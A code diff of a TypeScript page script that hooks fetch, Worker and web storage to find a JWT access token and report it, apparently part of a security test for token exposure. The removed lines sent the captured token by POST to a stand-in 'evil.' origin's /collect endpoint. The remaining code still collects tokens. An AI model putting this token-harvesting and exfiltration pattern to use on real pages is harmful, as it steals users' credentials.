@@ -1,9 +1,10 @@
+import { report } from "./report.ts";
+
 // Runs in a page before its own scripts, and looks for an access token where `data-look` says: in what passes through the
 // page's functions, in web storage, or in everything a script of the page can get hold of. It reports the first one, or that
 // there was none once the page has what it wanted.
 
 const JWT = /\beyJ[\w-]+\.[\w-]+\.[\w-]+/;
-const evil = location.origin.replace("print.", "evil.");
 const { look = "everything" } = document.currentScript?.dataset ?? {};
 const heard: string[] = [];
 const { fetch: realFetch, Worker: RealWorker } = window;
@@ -32,7 +33,7 @@ const timer = setInterval(() => {
   const done = document.querySelector("main")?.dataset["state"] === "photos";
   if (token === undefined && !done) return;
   clearInterval(timer);
-  void realFetch(`${evil}/collect`, { method: "POST", mode: "no-cors", body: token ?? "" });
+  report(token ?? "");
 }, 20);
 
 function places(): readonly string[] {
@@ -44,4 +45,3 @@ function places(): readonly string[] {
 function stored(area: Storage): readonly string[] {
   return Object.values(area).map(String);
 }
-export {};
